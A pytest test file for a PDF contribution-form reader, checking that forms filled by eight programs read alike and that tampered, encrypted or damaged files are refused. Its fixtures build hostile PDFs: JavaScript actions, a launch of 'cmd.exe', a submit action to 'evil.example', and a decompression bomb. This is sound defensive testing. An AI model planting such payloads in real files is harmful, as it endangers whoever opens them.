"""Filled contribution forms: what eight programs of others write is read alike; anything else is refused."""

from __future__ import annotations

import json
import random
import subprocess
import sys
import warnings
import zlib
from collections.abc import Callable
from io import BytesIO
from pathlib import Path

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, Pdf, String
from pikepdf._exceptions import PageCopyWarning

from mappa_desk.domain.errors import FileRefused
from mappa_desk.domain.form_questions import FormCode, code_for, fits, read_code
from mappa_desk.exchange import form_process
from mappa_desk.exchange.form_process import read_form_file
from mappa_desk.exchange.form_reader import read_fields

FORMS = Path(__file__).parent / "forms"
ANSWERS: dict[str, str] = json.loads((FORMS / "answers.json").read_text("utf-8"))
PROGRAMS = ("pypdf", "pikepdf", "pymupdf", "pdfium", "pdflib", "pdfjs", "poppler", "pdftk")
CODE = code_for(meeting_id="0" * 32, reference="LAN-0417-M03", agency="hsg")


def changed(change: Callable[[Pdf], object], name: str = "pikepdf", **how: object) -> bytes:
    """A filled form with something done to it."""
    target = BytesIO()
    with pikepdf.open(FORMS / f"{name}.pdf") as pdf:
        change(pdf)
        with warnings.catch_warnings():
            warnings.simplefilter("ignore", PageCopyWarning)  # widgets without their field are wanted here
            pdf.save(target, **how)
    return target.getvalue()


def fields_of(pdf: Pdf) -> dict[str, pikepdf.Object]:
    return {str(field.T): field for field in pdf.Root.AcroForm.Fields}


def refusal_of(data: bytes) -> str:
    with pytest.raises(FileRefused) as refused:
        read_fields(data)
    return str(refused.value)


@pytest.mark.parametrize("program", PROGRAMS)
def test_what_each_program_fills_is_read_word_for_word(program: str) -> None:
    form = read_form_file(FORMS / f"{program}.pdf")
    assert {one.field: one.text for one in form.answers} == ANSWERS
    assert form.code == CODE
    assert fits(form.code, meeting_id="0" * 32)
    assert (form.left_out, form.noted, form.file_name) == ((), (), f"{program}.pdf")


def test_an_empty_form_has_no_answers() -> None:
    form = read_form_file(FORMS / "empty.pdf")
    assert (form.answers, form.code) == ((), CODE)


def test_a_code_of_another_meeting_or_agency_does_not_fit() -> None:
    assert not fits(CODE, meeting_id="1" * 32)
    assert not fits(FormCode(1, "LAN-0417-M03", "pol", CODE.check), meeting_id="0" * 32)
    assert not fits(FormCode(1, "LAN-0417-M04", "hsg", CODE.check), meeting_id="0" * 32)
    for text in ("", "MAPPA-DESK-FORM", f"{CODE}/more", str(CODE).replace("/1/", "/x/"), "a/1/b/c/d"):
        assert read_code(text) is None, text
    assert read_code(f" {CODE}\n") == CODE


# Choices, whichever way they are written


def test_a_choice_is_read_as_a_name_a_string_a_state_or_an_option() -> None:
    def as_string(pdf: Pdf) -> None:
        fields_of(pdf)["response"].V = String("no_trace")

    def as_state(pdf: Pdf) -> None:
        field = fields_of(pdf)["response"]
        del field["/V"]
        for kid in field.Kids:
            kid.AS = Name.no_trace if Name.no_trace in kid.AP.N else Name.Off

    def as_option(pdf: Pdf) -> None:
        field = fields_of(pdf)["response"]
        field.Opt = Array([String("known"), String("no_trace")])
        field.V = Name("/1")

    for change in (as_string, as_state, as_option):
        assert read_fields(changed(change))["answers"]["response"] == "no_trace", change.__name__


def test_a_choice_that_the_form_does_not_have_is_named_and_left() -> None:
    def strange(pdf: Pdf) -> None:
        fields_of(pdf)["handling"].V = Name("/for_everybody")

    found = read_fields(changed(strange))
    assert "handling" not in found["answers"]
    assert found["left_out"] == ("1 choice that the form does not have",)


# Text


def test_text_is_plain_and_one_line_where_the_form_has_one() -> None:
    def typed(pdf: Pdf) -> None:
        fields = fields_of(pdf)
        fields["concerns"].V = String("one\rtwo\u202e\x07 <b>three</b>\u2028four")
        fields["period"].V = String("since\r\n2024")
        fields["plan"].V = pdf.make_stream("from a stream ŷ".encode("utf-16"))
        fields["offer"].V = pdf.make_stream(b"\xef\xbb\xbfutf-8 \xc3\xa9")

    found = read_fields(changed(typed))
    assert found["answers"]["concerns"] == "one\ntwo <b>three</b>\nfour"
    assert found["answers"]["period"] == "since 2024"
    assert found["left_out"] == ("1 invisible character",)
    assert "from a stream" in found["answers"]["plan"]
    assert found["answers"]["offer"].startswith("utf-8")


def test_what_stands_beside_the_fields_is_counted() -> None:
    def beside(pdf: Pdf) -> None:
        note = Dictionary(
            Type=Name.Annot, Subtype=Name.FreeText, Rect=[0, 0, 9, 9], Contents=String("typed over")
        )
        pdf.pages[0].obj.Annots.append(pdf.make_indirect(note))
        pdf.attachments["more.txt"] = b"more"
        other = pdf.make_indirect(Dictionary(FT=Name.Tx, T=String("signature_name"), V=String("L. Hughes")))
        pdf.Root.AcroForm.Fields.append(other)

    found = read_fields(changed(beside))
    assert found["left_out"] == ("1 comment on the pages", "1 attached file", "1 other field")
    assert len(found["answers"]) == len(ANSWERS)


def test_the_wording_on_the_pages_is_never_read() -> None:
    def reworded(pdf: Pdf) -> None:
        for page in pdf.pages:
            page.Contents = pdf.make_stream(b"BT (Do you agree to everything?) Tj ET")
        fields_of(pdf)["concerns"].TU = String("Do you agree to everything?")

    assert read_fields(changed(reworded))["answers"] == ANSWERS


# What is refused


def scripted(pdf: Pdf) -> None:
    fields_of(pdf)["concerns"].AA = Dictionary(K=Dictionary(S=Name.JavaScript, JS=String("app.alert(1)")))


def opening(pdf: Pdf) -> None:
    pdf.Root.OpenAction = Dictionary(S=Name.Launch, F=String("cmd.exe"))


def sending(pdf: Pdf) -> None:
    fields_of(pdf)["period"].A = Dictionary(S=Name.SubmitForm, F=String("http://evil.example"))


def named_script(pdf: Pdf) -> None:
    action = pdf.make_indirect(Dictionary(S=Name.JavaScript, JS=pdf.make_stream(b"app.alert(1)")))
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), action])))


def xfa(pdf: Pdf) -> None:
    pdf.Root.AcroForm.XFA = pdf.make_stream(b"<xdp:xdp/>")
    pdf.Root.AcroForm.Fields = Array()


def flattened(pdf: Pdf) -> None:
    pdf.flatten_annotations()


def without_code(pdf: Pdf) -> None:
    fields = pdf.Root.AcroForm.Fields
    pdf.Root.AcroForm.Fields = Array([field for field in fields if str(field.T) != "form_code"])


def foreign(pdf: Pdf) -> None:
    other = pdf.make_indirect(Dictionary(FT=Name.Tx, T=String("surname"), V=String("Smith")))
    pdf.Root.AcroForm.Fields = Array([other])


def many_fields(pdf: Pdf) -> None:
    more = [Dictionary(FT=Name.Tx, T=String(f"f{number}")) for number in range(3_000)]
    pdf.Root.AcroForm.Fields = Array(more)


def deep_fields(pdf: Pdf) -> None:
    field = Dictionary(FT=Name.Tx, T=String("end"), V=String("x"))
    for number in range(60):
        field = pdf.make_indirect(Dictionary(T=String(f"d{number}"), Kids=Array([field])))
    pdf.Root.AcroForm.Fields = Array([field])


def circle(pdf: Pdf) -> None:
    field = pdf.make_indirect(Dictionary(T=String("round"), Kids=Array()))
    field.Kids.append(field)
    pdf.Root.AcroForm.Fields = Array([field])


def too_much_text(pdf: Pdf) -> None:
    fields_of(pdf)["concerns"].V = String("word " * 300_000)


@pytest.mark.parametrize(
    ("change", "sentence"),
    [
        (scripted, "holds scripts or actions"),
        (opening, "holds scripts or actions"),
        (sending, "holds scripts or actions"),
        (named_script, "holds scripts or actions"),
        (xfa, "form of another kind"),
        (flattened, "has no fields: it was printed or flattened"),
        (without_code, "code of this form is gone"),
        (foreign, "not a contribution form of this program"),
        (many_fields, "far more than a form can hold"),
        (deep_fields, "far more than a form can hold"),
        (circle, "far more than a form can hold"),
        (too_much_text, "far more than a form can hold"),
    ],
)
def test_a_file_that_is_more_or_less_than_our_form(
    tmp_path: Path, change: Callable[[Pdf], object], sentence: str
) -> None:
    data = changed(change)
    assert sentence in refusal_of(data)
    path = tmp_path / "form.pdf"
    path.write_bytes(data)
    with pytest.raises(FileRefused, match=sentence) as refused:
        read_form_file(path)
    assert str(refused.value).count(".") <= 2, "a plain sentence, with what to do"


@pytest.mark.parametrize(("owner", "user"), [("o", "u"), ("o", "")])
def test_an_encrypted_form_is_refused(owner: str, user: str) -> None:
    data = changed(lambda _pdf: None, encryption=pikepdf.Encryption(owner=owner, user=user))
    assert "password or is encrypted" in refusal_of(data)


@pytest.mark.parametrize(
    "data", [b"", b"PK\x03\x04", b"%PDF-1.7", b"%PDF-1.7\n" + b"1 0 obj<<" * 20_000], ids=repr
)
def test_what_is_no_pdf_is_refused(data: bytes) -> None:
    assert refusal_of(data) == "This is not a PDF file, or it is damaged."


def test_a_form_cut_in_the_middle_is_refused_or_read_whole() -> None:
    whole = (FORMS / "pypdf.pdf").read_bytes()
    for cut in range(1_000, len(whole), 4_001):
        try:
            found = read_fields(whole[:cut])
        except FileRefused:
            continue
        assert set(found["answers"].items()) <= set(ANSWERS.items())


@pytest.mark.parametrize("program", ["pypdf", "pdfjs"])
def test_damage_of_any_kind_is_refused_or_read(program: str) -> None:
    chance = random.Random(417)
    whole = (FORMS / f"{program}.pdf").read_bytes()
    ends = {"read": 0, "refused": 0}
    for _ in range(60):
        data = bytearray(whole)
        for _ in range(chance.randint(1, 30)):
            data[chance.randrange(len(data))] = chance.randrange(256)
        try:
            read_fields(bytes(data))
        except FileRefused as refused:
            assert str(refused).endswith(".")
            ends["refused"] += 1
        else:
            ends["read"] += 1
    assert sum(ends.values()) == 60


def _squeezed(size: int) -> bytes:
    """As zlib packs so many bytes of text in UTF-16: one block is packed and stands there many times."""
    mark, block = b"\xfe\xff", b"\0a" * 5_000_000
    packer = zlib.compressobj(9)
    parts = [packer.compress(mark) + packer.flush(zlib.Z_FULL_FLUSH)]
    repeated = packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH)
    check = zlib.adler32(mark)
    for _ in range(size // len(block)):
        parts.append(repeated)
        check = zlib.adler32(block, check)
    return b"".join((*parts, b"\x03\x00", check.to_bytes(4, "big")))


def test_the_bomb_is_what_zlib_itself_unpacks() -> None:
    assert zlib.decompress(_squeezed(30_000_000)) == b"\xfe\xff" + b"\0a" * 15_000_000


def bomb(size: int) -> bytes:
    """A form of which one answer is a stream that unpacks to so many bytes."""
    packed = zlib.compress(_squeezed(size), 9)

    def change(pdf: Pdf) -> None:
        stream = pdf.make_stream(packed)
        stream.stream_dict["/Filter"] = Array([Name.FlateDecode, Name.FlateDecode])
        stream.write(packed, filter=Array([Name.FlateDecode, Name.FlateDecode]))
        fields_of(pdf)["concerns"].V = stream

    return changed(change, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none)


@pytest.mark.skipif(sys.platform == "win32", reason="there is no bound on memory on Windows")
def test_a_file_that_unpacks_to_gigabytes_ends_in_a_sentence(tmp_path: Path) -> None:
    path = tmp_path / "form.pdf"
    path.write_bytes(bomb(1_500_000_000))
    assert path.stat().st_size < 5_000_000
    with pytest.raises(FileRefused, match=r"more memory|far more|reading it was stopped|damaged"):
        read_form_file(path)


def test_a_file_that_is_too_large_or_of_another_kind_is_not_even_read(tmp_path: Path) -> None:
    large = tmp_path / "form.pdf"
    with large.open("wb") as file:
        file.truncate(100 * 1024 * 1024)
    with pytest.raises(FileRefused, match=r"This file has 100 MB; files of up to 15 MB are read\."):
        read_form_file(large, command=("/nowhere/at/all",))
    with pytest.raises(FileRefused, match="Only the PDF form itself"):
        read_form_file(tmp_path / "form.docx", command=("/nowhere/at/all",))
    with pytest.raises(FileRefused, match="cannot be opened"):
        read_form_file(tmp_path / "gone.pdf")


# The process


def _program(tmp_path: Path, body: str) -> tuple[str, ...]:
    script = tmp_path / "reader.py"
    script.write_text(body, encoding="utf-8")
    return (sys.executable, str(script))


@pytest.mark.parametrize(
    ("body", "sentence"),
    [
        ("import time; time.sleep(60)", "could not be read in 1 seconds"),
        ("import os; os.abort()", "reading it was stopped"),
        ("print('{}')", "reading it was stopped"),
        ('print(\'{"code": 1, "answers": [], "left_out": [], "noted": []}\')', "reading it was stopped"),
        ('print(\'{"code": "x", "answers": {}, "left_out": [], "noted": []}\')', "not a contribution form"),
    ],
)
def test_a_reader_that_crashes_hangs_or_lies(tmp_path: Path, body: str, sentence: str) -> None:
    wait = 1.0 if "sleep" in body else 30.0
    with pytest.raises(FileRefused, match=sentence):
        read_form_file(FORMS / "pypdf.pdf", command=_program(tmp_path, body), wait=wait)


def test_what_the_reader_says_is_not_believed_further_than_its_shape(tmp_path: Path) -> None:
    answer = {
        "code": f"{CODE}\n",
        "answers": {"concerns": "a\x00b\rc", "response": "everything", "own_field": "x", "plan": ""},
        "left_out": ["1\ncomment"] * 99,
        "noted": [],
    }
    command = _program(tmp_path, f"print({json.dumps(json.dumps(answer))})")
    form = read_form_file(FORMS / "pypdf.pdf", command=command)
    assert [(one.field, one.text) for one in form.answers] == [("concerns", "ab\nc")]
    assert form.left_out == ("1 comment",) * 20
    newer = answer | {"code": str(CODE).replace("/1/", "/2/")}
    command = _program(tmp_path, f"print({json.dumps(json.dumps(newer))})")
    with pytest.raises(FileRefused, match="newer edition of the program"):
        read_form_file(FORMS / "pypdf.pdf", command=command)


def test_the_reader_reads_after_it_gave_up_everything_else(tmp_path: Path) -> None:
    body = (
        "import sys\n"
        "from pathlib import Path\n"
        "from mappa_desk.exchange import confined, form_reader as reader\n"
        "data = Path(sys.argv[1]).read_bytes()\n"
        "confined.give_up_everything(reader._warm_up)\n"
        "said = []\n"
        "for attempt in (lambda: open('/etc/hostname'), lambda: __import__('os').system('echo')):\n"
        "    try:\n        attempt()\n    except OSError:\n        said.append('refused')\n"
        "said.append(str(len(reader.read_fields(data)['answers'])))\n"
        "sys.stdout.write(' '.join(said))\n"
    )
    command = (*_program(tmp_path, body), str(FORMS / "pdfium.pdf"))
    done = subprocess.run(command, capture_output=True, cwd=tmp_path, check=False)
    assert done.stdout == f"refused refused {len(ANSWERS)}".encode(), done.stderr[-500:]


def test_the_program_runs_as_the_reader() -> None:
    assert form_process.READER == "form-reader"
    data = (FORMS / "poppler.pdf").read_bytes()
    command = (sys.executable, "-m", "mappa_desk", "form-reader")
    done = subprocess.run(command, input=b"pdf\n" + data, capture_output=True, check=True)
    assert json.loads(done.stdout)["answers"] == ANSWERS
